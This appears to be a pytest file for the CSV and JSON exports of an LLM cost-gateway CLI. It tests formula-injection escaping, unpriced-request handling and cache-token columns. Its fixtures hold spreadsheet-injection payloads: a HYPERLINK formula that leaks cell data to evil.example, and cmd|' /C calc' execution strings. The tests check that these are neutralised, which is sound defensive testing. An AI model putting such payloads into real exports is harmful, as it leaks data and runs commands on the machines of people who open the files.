"""What `spendgate report` and `spendgate events` export (CSV, JSON), from traffic sent through
the gateway with the official SDKs, on SQLite and PostgreSQL, read back through the CLI."""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from spendgate.cli import main
from spendgate.reports.csv_export import csv_text
from tests.conftest import Gateway

HOSTILE = {
    '=HYPERLINK("https://evil.example/?leak="&A1,"refund")': "'=HYPERLINK(",
    "+cmd|' /C calc'!A0": "'+cmd",
    "-2+3": "'-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM",
}


@pytest.fixture(autouse=True)
def _no_stray_config(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)  # no spendgate.toml from the working directory
    monkeypatch.delenv("SPENDGATE_DB", raising=False)


def cli(gateway: Gateway, *args: str) -> Result:
    gateway.flush()
    result = CliRunner().invoke(main, [*args, "--db", gateway.db_url], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result


def chat(gateway: Gateway, key: str, model: str = "gpt-4o-mini", prompt: str = "hi", **headers: str) -> None:
    gateway.openai(key, default_headers=headers).chat.completions.create(
        model=model, messages=[{"role": "user", "content": prompt}]
    )


# --- item 9: CSV injection ------------------------------------------------------------------------
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(gateway: Gateway) -> None:
    key = gateway.key("k")
    for customer in HOSTILE:
        headers = {"x-spendgate-customer": customer, "x-spendgate-feature": customer}
        chat(gateway, key, "gpt-4o-mini", "[[sim input=1000 output=100]]", **headers)

    report = cli(gateway, "report", "--by", "customer,feature", "--format", "csv", "--no-totals").stdout
    rows = list(csv.DictReader(io.StringIO(report)))
    assert len(rows) == len(HOSTILE)
    for row in rows:
        for column in ("customer", "feature"):
            value = row[column]
            assert value.startswith("'") and value[1:] in HOSTILE, value
            assert value.startswith(HOSTILE[value[1:]])
        assert row["cost_usd"] == "0.00021"  # 1000 x $0.15 + 100 x $0.60 per million
    for line in report.splitlines()[1:]:
        # the text quoted (it cannot spill into another cell), the figures bare (numbers)
        assert line.startswith("\"'"), line
        # cost, requests, input, cached, cache write (5 min, 1 h), output, reasoning, unpriced, estimated, errors
        assert line.endswith('",0.00021,1,1000,0,0,0,100,0,0,0,0'), line

    events = cli(gateway, "events", "--format", "csv").stdout
    listed = list(csv.DictReader(io.StringIO(events)))
    assert sorted(e["customer"] for e in listed) == sorted(f"'{c}" for c in HOSTILE)
    assert {e["cost_usd"] for e in listed} == {
        e["cost_usd"] for e in json.loads(cli(gateway, "events", "--json").stdout)
    }


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_trigger_is_neutralised(trigger: str) -> None:
    out = csv_text(["customer"], [{"customer": f"{trigger}1+1"}])
    [[cell]] = list(csv.reader(io.StringIO(out)))[1:]
    assert cell == f"'{trigger}1+1"


def test_figures_stay_numbers_and_text_that_looks_like_one_stays_text() -> None:
    out = csv_text(
        ["customer", "cost_usd", "requests", "tiny"],
        [{"customer": "-1.5", "cost_usd": Decimal("-1.50"), "requests": -3, "tiny": Decimal("0.0000001")}],
    )
    assert out.splitlines() == ['"customer","cost_usd","requests","tiny"', '"\'-1.5",-1.5,-3,0.0000001']


# --- item 11: unpriced rows, cache_write_1h_tokens --------------------------------------------------
def test_a_row_of_only_unpriced_requests_has_no_cost(gateway: Gateway) -> None:
    key = gateway.key("k")
    prompt = "[[sim input=1000 output=100]]"
    chat(gateway, key, "my-finetune-v7", prompt, **{"x-spendgate-feature": "private"})
    chat(gateway, key, "my-finetune-v7", prompt, **{"x-spendgate-feature": "mixed"})
    chat(gateway, key, "gpt-4o-mini", prompt, **{"x-spendgate-feature": "mixed"})
    # gpt-4o-mini: 1000 x $0.15 + 100 x $0.60 per million
    priced = "0.00021"

    data = json.loads(cli(gateway, "report", "--by", "feature", "--format", "json").stdout)
    rows = {r["feature"]: r for r in data["rows"]}
    assert (rows["private"]["cost_usd"], rows["private"]["unpriced_requests"]) == (None, 1)
    assert (rows["mixed"]["cost_usd"], rows["mixed"]["requests"], rows["mixed"]["unpriced_requests"]) == (priced, 2, 1)
    assert (data["total_cost_usd"], data["unpriced_requests"]) == (priced, 2)

    rows = {
        r["feature"]: r
        for r in csv.DictReader(io.StringIO(cli(gateway, "report", "--by", "feature", "--format", "csv").stdout))
    }
    assert (rows["private"]["cost_usd"], rows["private"]["unpriced_requests"]) == ("", "1")
    assert (rows["mixed"]["cost_usd"], rows["mixed"]["unpriced_requests"]) == (priced, "1")

    table = cli(gateway, "report", "--by", "feature").stdout
    private = next(line for line in table.splitlines() if "private" in line)
    assert "unpriced" in private and " 0 " not in private

    by_model = json.loads(cli(gateway, "report", "--by", "model", "--since", "2000-01-01", "--format", "json").stdout)
    assert {r["model"]: r["cost_usd"] for r in by_model["rows"]} == {"my-finetune-v7": None, "gpt-4o-mini": priced}


def test_a_report_of_only_unpriced_requests_has_no_total(gateway: Gateway) -> None:
    chat(gateway, gateway.key("k"), "my-finetune-v7", "[[sim input=10 output=1]]")
    data = json.loads(cli(gateway, "report", "--format", "json").stdout)
    assert (data["total_cost_usd"], data["total_requests"], data["unpriced_requests"]) == (None, 1, 1)


def test_cache_write_1h_tokens_are_exported(gateway: Gateway) -> None:
    key = gateway.key("k")
    gateway.anthropic(key, default_headers={"x-spendgate-trace-id": "t1"}).messages.create(
        model="claude-haiku-4-5",
        max_tokens=50,
        messages=[{"role": "user", "content": "[[sim input=100 cache_write=300 cache_write_1h=200 output=20]]"}],
    )
    # From the rollups (by project) and from raw events (by trace): the same figures.
    for by in ("project", "trace"):
        [row] = json.loads(cli(gateway, "report", "--by", by, "--format", "json").stdout)["rows"]
        assert (row["cache_write_tokens"], row["cache_write_1h_tokens"]) == (300, 200), by
        [row, total] = csv.DictReader(io.StringIO(cli(gateway, "report", "--by", by, "--format", "csv").stdout))
        assert (row["cache_write_tokens"], row["cache_write_1h_tokens"]) == ("300", "200"), by
        assert (total[by], total["cache_write_tokens"], total["cache_write_1h_tokens"]) == ("total", "300", "200")
    [event] = json.loads(cli(gateway, "events", "--json").stdout)
    assert (event["cache_write_tokens"], event["cache_write_1h_tokens"]) == (300, 200)
    [event] = csv.DictReader(io.StringIO(cli(gateway, "events", "--format", "csv").stdout))
    assert (event["cache_write_tokens"], event["cache_write_1h_tokens"]) == ("300", "200")


def test_every_csv_export_goes_through_the_one_safe_writer() -> None:
    """Finance files, statements and the FOCUS export included: a CSV written any other way
    would let a team, project or customer name run as a formula in finance's spreadsheet."""
    import spendgate

    root = Path(next(iter(spendgate.__path__)))
    writers = [
        f"{path.relative_to(root)}:{number}"
        for path in root.rglob("*.py")
        if path.name != "csv_export.py"
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
        if "csv.writer(" in line or "csv.DictWriter(" in line
    ]
    assert writers == []
